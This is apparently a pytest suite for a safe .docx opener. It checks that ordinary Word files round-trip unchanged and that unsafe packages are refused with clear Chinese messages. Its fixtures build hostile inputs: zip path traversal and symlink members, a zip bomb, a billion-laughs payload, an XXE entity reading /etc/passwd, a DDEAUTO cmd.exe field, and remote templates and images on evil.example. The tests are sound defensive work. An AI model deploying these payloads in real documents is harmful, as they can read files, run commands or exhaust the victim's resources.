"""打开别人的 .docx：正常的原样读写，不安全的一律不收，说清楚是什么、在哪里。"""

from __future__ import annotations

import io
import struct
import zipfile

import docx
import pytest
from tests.ooxml.packages import (
    HEAD,
    MAIN,
    TYPES_PART,
    WORD,
    R,
    W,
    document,
    members,
    paragraph,
    relations,
    types,
    with_parts,
    zipped,
)

from gongwen.errors import PackageError
from gongwen.ooxml import opening
from gongwen.ooxml.opening import open_package

VML = "urn:schemas-microsoft-com:vml"
OFFICE = "urn:schemas-microsoft-com:office:office"


def refused(data: bytes) -> str:
    with pytest.raises(PackageError) as caught:
        open_package(data, "信笺.docx")
    assert caught.value.next_step
    assert caught.value.where.path == "信笺.docx"
    return caught.value.what


def real_docx() -> bytes:
    made = io.BytesIO()
    written = docx.Document()
    written.add_paragraph("你好")
    written.add_table(2, 2)
    written.save(made)
    return made.getvalue()


@pytest.mark.parametrize("data", [with_parts(), real_docx()], ids=["smallest", "python-docx"])
def test_an_ordinary_document_opens_with_every_part_as_it_was(data: bytes) -> None:
    package = open_package(data, "信笺.docx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert dict(package.parts) == {name: archive.read(name) for name in archive.namelist()}
    assert package.main == MAIN


def test_rewriting_changes_only_the_parts_given_and_gives_the_same_bytes_twice() -> None:
    data = real_docx()
    package = open_package(data, "信笺.docx")
    new = document(paragraph("改了"))
    written = package.rewritten({MAIN: new, "word/new.xml": b"<a/>"})
    assert written == package.rewritten({"word/new.xml": b"<a/>", MAIN: new})
    with zipfile.ZipFile(io.BytesIO(written)) as archive:
        assert {name: archive.read(name) for name in archive.namelist()} == {
            **package.parts,
            MAIN: new,
            "word/new.xml": b"<a/>",
        }


def test_relations_give_part_names_whether_the_target_is_relative_or_absolute() -> None:
    rels = relations(("styles", "styles.xml", False), ("image", "/word/media/%E5%9B%BE.png", False))
    found = open_package(with_parts(rels=rels), "信笺.docx").relations(MAIN)
    assert [(each.short, each.part) for each in found] == [
        ("styles", "word/styles.xml"),
        ("image", "word/media/图.png"),
    ]


@pytest.mark.parametrize(
    "target", ["https://www.example.gov.cn/", "http://example.cn", "mailto:a@example.cn", "#书签"]
)
def test_plain_hyperlinks_are_let_through(target: str) -> None:
    data = with_parts(rels=relations(("hyperlink", target, True)))
    assert open_package(data, "信笺.docx").relations(MAIN)[0].target == target


XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (b"", "不是 Word 文档（.docx）"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "是 97—2003 格式的文件（.doc），不是 .docx"),
        (
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
            "文件加了密码",
        ),
        (b"%PDF-1.7\n", "不是 Word 文档（.docx）"),
        ("草稿".encode(), "不是 Word 文档（.docx）"),
        (zipped({"a.txt": b"1"}), "是压缩包，不是 Word 文档"),
        (zipped({TYPES_PART: types(), "_rels/.rels": relations()}), "是压缩包，不是 Word 文档"),
        (with_parts(types=types(XLSX_TYPE)), "不是 Word 文档（.docx）"),
        (with_parts(types=types(f"{WORD}.template.main+xml")), "是 Word 模板（.dotx），不是 .docx"),
        (
            with_parts(types=types("application/vnd.ms-word.document.macroEnabled.main+xml")),
            "是带宏的 Word 文件",
        ),
        (
            with_parts(
                extra={
                    "_rels/.rels": relations(
                        ("officeDocument", MAIN, False),
                        base="http://purl.oclc.org/ooxml/officeDocument/relationships",
                    )
                }
            ),
            "是“Strict Open XML”一类的写法，不是通常的 .docx",
        ),
    ],
)
def test_what_is_not_a_docx_is_named_for_what_it_is(data: bytes, what: str) -> None:
    assert refused(data) == what


@pytest.mark.parametrize("kept", [0.3, 0.6, 0.9, 0.99])
def test_a_truncated_file_is_said_to_be_damaged(kept: float) -> None:
    data = real_docx()
    assert refused(data[: int(len(data) * kept)]) == "文件损坏，读不出来"


def test_damaged_contents_are_said_to_be_damaged() -> None:
    data = bytearray(zipped(members(paragraph("好" * 500)), zipfile.ZIP_STORED))
    at = data.find("好好好".encode())
    data[at] ^= 0xFF
    assert refused(bytes(data)) == "文件损坏，读不出来"


def encrypted() -> bytes:
    """标志位说加了密的 zip。"""
    data = bytearray(with_parts())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(signature, at + 4)
    return bytes(data)


def link() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in members().items():
            archive.writestr(name, data)
        info = zipfile.ZipInfo("word/link.xml")
        info.create_system, info.external_attr = 3, 0o120777 << 16
        archive.writestr(info, "../../secret")
    return made.getvalue()


def renamed(old: bytes, new: bytes) -> bytes:
    return zipped({**members(), old.decode(): b"<a/>"}).replace(old, new)


@pytest.mark.parametrize(
    ("data", "what"),
    [
        (encrypted(), "文件加了密码"),
        (zipped(members(), zipfile.ZIP_LZMA), "压缩方法不是 .docx 用的"),
        (with_parts(extra={"../evil.xml": b"<a/>"}), "里面有不正常的成员名 '../evil.xml'"),
        (with_parts(extra={"/etc/evil.xml": b"<a/>"}), "里面有不正常的成员名 '/etc/evil.xml'"),
        (with_parts(extra={"word/../evil.xml": b"<a/>"}), "里面有不正常的成员名 'word/../evil.xml'"),
        (with_parts(extra={"c:/evil.xml": b"<a/>"}), "里面有不正常的成员名 'c:/evil.xml'"),
        (renamed(b"word/aevil.xml", b"word\\aevil.xml"), "里面有不正常的成员名 'word\\\\aevil.xml'"),
        (with_parts(extra={"WORD/Document.xml": b"<a/>"}), "里面有不正常的成员名 'WORD/Document.xml'"),
        (link(), "里面有不正常的成员名 'word/link.xml'"),
    ],
    ids=["encrypted", "method", "up", "absolute", "inner-up", "drive", "backslash", "twice", "symlink"],
)
def test_tricks_with_members_are_refused(data: bytes, what: str) -> None:
    assert refused(data) == what


def test_too_large_a_file_is_refused_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(opening, "MAX_FILE", 1024 * 1024)
    monkeypatch.setattr(zipfile, "ZipFile", None)
    assert refused(b"PK\x03\x04" + b"\0" * 1024 * 1024) == "文件超过 1 MB"


def test_too_many_members_are_refused_before_the_list_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    data = with_parts(extra={f"word/{at}.xml": b"<a/>" for at in range(3000)})
    monkeypatch.setattr(zipfile, "ZipFile", None)
    assert refused(data) == "里面的成员超过 2000 个"


def bomb(declared: int | None = None) -> bytes:
    """16 MB 的零压成 16 KB；declared 是登记的大小，可以是假的。"""
    data = bytearray(with_parts(extra={"word/media/bomb.png": b"\0" * (16 << 20)}))
    if declared is not None:
        for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
            at = data.rfind(signature)
            data[at + offset : at + offset + 4] = struct.pack("<I", declared)
    return bytes(data)


def test_a_zip_bomb_is_refused_from_its_declared_size_unread(monkeypatch: pytest.MonkeyPatch) -> None:
    data = bomb()
    assert len(data) < 100_000
    monkeypatch.setattr(opening, "MAX_TOTAL", 8 << 20)
    opened: list[str] = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda _, info, *__: opened.append(str(info)))
    assert refused(data) == "解压后超过 8 MB"
    assert opened == []


def test_a_zip_bomb_with_a_false_size_is_stopped_while_reading(monkeypatch: pytest.MonkeyPatch) -> None:
    assert refused(bomb(10)) == "文件损坏，读不出来"
    monkeypatch.setattr(opening, "MAX_TOTAL", 1000)
    monkeypatch.setattr(opening, "_refuse_infos", lambda *_: None)
    assert refused(with_parts(extra={"word/a.xml": b"<a/>" * 1000})) == "解压后超过 0 MB"


def test_millions_of_empty_tags_are_refused_before_a_tree_is_built(monkeypatch: pytest.MonkeyPatch) -> None:
    data = with_parts(body="<w:b/>" * 4_000_001)
    assert len(data) < 100_000
    monkeypatch.setattr(opening, "etree", None)
    assert refused(data) == "里面的标签超过 400 万个"


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "哈哈">'
    + "".join(f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(12))
    + f']><w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&m;</w:t></w:r></w:p></w:body></w:document>'
)


@pytest.mark.parametrize(
    "data",
    [
        LAUGHS.encode(),
        LAUGHS.replace('"1.0"', '"1.0" encoding="UTF-16"', 1).encode("utf-16"),
        (HEAD + f'<!DOCTYPE w:document SYSTEM "http://127.0.0.1/x.dtd"><w:document xmlns:w="{W}"/>').encode(),
        (
            HEAD + '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            f'<w:document xmlns:w="{W}"><w:body>&x;</w:body></w:document>'
        ).encode(),
    ],
    ids=["laughs", "utf-16", "external-dtd", "external-entity"],
)
@pytest.mark.parametrize("part", [MAIN, "word/comments.xml"])
def test_entities_and_dtds_are_refused_in_any_part(data: bytes, part: str) -> None:
    assert refused(with_parts(extra={part: data})) == f"{part} 带有 DTD 或实体定义"


def test_xml_in_an_odd_encoding_or_cut_short_is_refused() -> None:
    odd = document("").replace(b"UTF-8", b"UTF-7")
    assert refused(with_parts(extra={"word/a.xml": odd})) == "word/a.xml 的编码 UTF-7 不是 .docx 用的"
    assert refused(with_parts(extra={"word/a.xml": b"<a><b></a>"})) == "文件损坏：word/a.xml 不是完整的 XML"


EMBEDDED = "word/embeddings/oleObject1.bin"


@pytest.mark.parametrize(
    ("rows", "what"),
    [
        (("vbaProject", "vbaProject.bin", False), "带有宏：word/document.xml"),
        (("oleObject", "embeddings/oleObject1.bin", False), "带有嵌入或链接的对象（OLE）：word/document.xml"),
        (("package", "embeddings/a.xlsx", False), "带有嵌入的文件：word/document.xml"),
        (("control", "activeX/activeX1.xml", False), "带有ActiveX 控件：word/document.xml"),
        (("aFChunk", "a.html", False), "带有整块插入的其他格式的内容：word/document.xml"),
        (
            ("attachedTemplate", "http://evil.example/t.dotm", True),
            "带有附加的模板：word/document.xml → http://evil.example/t.dotm",
        ),
        (
            ("image", "http://evil.example/i.png", True),
            "带有链接的图片：word/document.xml → http://evil.example/i.png",
        ),
        (
            ("oleObject", "file:///c:/a.xlsx", True),
            "带有嵌入或链接的对象（OLE）：word/document.xml → file:///c:/a.xlsx",
        ),
        (
            ("hyperlink", "file://server/share", True),
            "带有指向文件的超链接：word/document.xml → file://server/share",
        ),
        (
            ("hyperlink", "javascript:alert(1)", True),
            "带有指向文件的超链接：word/document.xml → javascript:alert(1)",
        ),
        (("video", "http://evil.example", True), "带有外部链接：word/document.xml → http://evil.example"),
    ],
)
def test_active_and_external_relations_are_refused_with_their_part(
    rows: tuple[str, str, bool], what: str
) -> None:
    assert refused(with_parts(rels=relations(rows))) == what


def test_a_relation_is_external_whatever_the_mode_is_spelled_like() -> None:
    rels = relations(("image", "http://evil.example/i.png", True)).replace(b'"External"', b'"external"')
    assert refused(with_parts(rels=rels)).startswith("带有链接的图片")


def test_relations_of_headers_and_of_the_whole_file_are_read_too() -> None:
    linked = relations(("image", "http://evil.example/i.png", True))
    extra = {"word/header1.xml": document(""), "word/_rels/header1.xml.rels": linked}
    assert refused(with_parts(extra=extra)).startswith("带有链接的图片：word/header1.xml")
    package = relations(("officeDocument", MAIN, False), ("webextensiontaskpanes", "w.xml", False))
    assert refused(with_parts(extra={"_rels/.rels": package})) == "带有加载项：整个文件"
    shouted = {"word/_rels/header1.xml.RELS": linked}
    assert refused(with_parts(extra=shouted)).startswith("带有链接的图片")


@pytest.mark.parametrize(
    ("name", "kind", "what"),
    [
        ("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", "带有宏：word/vbaProject.bin"),
        ("word/a.xml", "application/vnd.ms-office.activeX+xml", "带有ActiveX 控件：word/a.xml"),
        (EMBEDDED, "application/x-oleObject", f"带有嵌入或链接的对象（OLE）：{EMBEDDED}"),
        ("word/a.html", "text/html", "带有嵌入的文件：word/a.html"),
    ],
)  # fmt: skip
def test_active_parts_are_refused_even_without_a_relation(name: str, kind: str, what: str) -> None:
    listed = types(overrides={f"/{name}": kind})
    assert refused(with_parts(types=listed, extra={name: b"<a/>"})) == what


def field(*pieces: str) -> str:
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    codes = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    return f"<w:p><w:r>{begin}{codes}{end}</w:r></w:p>"


NESTED = field("X").replace(
    "<w:instrText>X</w:instrText>",
    '<w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE</w:instrText>'
    '<w:fldChar w:fldCharType="separate"/><w:t>DD</w:t><w:fldChar w:fldCharType="end"/>'
    "<w:instrText>E cmd</w:instrText>",
)


PICTURE = (
    f'<w:p><w:r><w:pict><v:shape xmlns:v="{VML}"><v:imagedata src="http://evil.example/i.png"/>'
    "</v:shape></w:pict></w:r></w:p>"
)


@pytest.mark.parametrize(
    ("body", "what"),
    [
        (field("DDEAUTO c:\\\\cmd.exe"), "带有“从别的程序取数（DDE）”的域 DDEAUTO c:\\\\cmd.exe"),
        (field("  dde ", "Excel"), "带有“从别的程序取数（DDE）”的域 dde Excel"),
        (field("INCLUDE", "TEXT c:/x.docx"), "带有“插入别的文件”的域 INCLUDETEXT c:/x.docx"),
        (
            '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/i.png "/></w:p>',
            "带有“插入别处的图片”的域 INCLUDEPICTURE http://evil.example/i.png",
        ),
        (NESTED.replace("QUOTE", ""), "带有“从别的程序取数（DDE）”的域 DDE cmd"),
        (f'<w:p><w:r><w:object><o:OLEObject xmlns:o="{OFFICE}"/></w:object></w:r></w:p>',
         "带有嵌入或链接的对象（OLE）"),
        (f'<w:altChunk r:id="rId1" xmlns:r="{R}"/>', "带有整块插入的其他格式的内容"),
        ("<w:p><w:r><w:control/></w:r></w:p>", "带有ActiveX 控件"),
        (
            PICTURE,
            "带有链接的图片或脚本",
        ),
    ],
)  # fmt: skip
def test_active_contents_of_a_part_are_refused(body: str, what: str) -> None:
    assert refused(with_parts(body=body)) == f"{what}：{MAIN}"


def test_mail_merge_and_svg_that_fetch_are_refused() -> None:
    settings = f'<w:settings xmlns:w="{W}"><w:mailMerge/></w:settings>'.encode()
    assert refused(with_parts(extra={"word/settings.xml": settings})) == (
        "带有邮件合并的数据源：word/settings.xml"
    )
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/i.png"/></svg>'
    listed = types(defaults={"svg": "image/svg+xml"})
    assert refused(with_parts(types=listed, extra={"word/media/a.svg": svg})) == (
        "带有链接的图片或脚本：word/media/a.svg"
    )


@pytest.mark.parametrize("body", [field("PAGE"), field("HYPERLINK ", '"http://a.cn"'), field(" = 1+1")])
def test_harmless_fields_are_let_through(body: str) -> None:
    assert open_package(with_parts(body=body), "信笺.docx").main == MAIN


def test_each_parse_is_a_fresh_tree() -> None:
    package = open_package(with_parts(), "信笺.docx")
    package.tree(MAIN).clear()
    assert len(package.tree(MAIN)) == 1


def test_a_part_is_xml_by_its_type_whatever_its_name() -> None:
    listed = types(overrides={"/word/odd.dat": f"{WORD}.comments+xml"})
    data = with_parts(types=listed, extra={"word/odd.dat": LAUGHS.encode()})
    assert refused(data) == "word/odd.dat 带有 DTD 或实体定义"
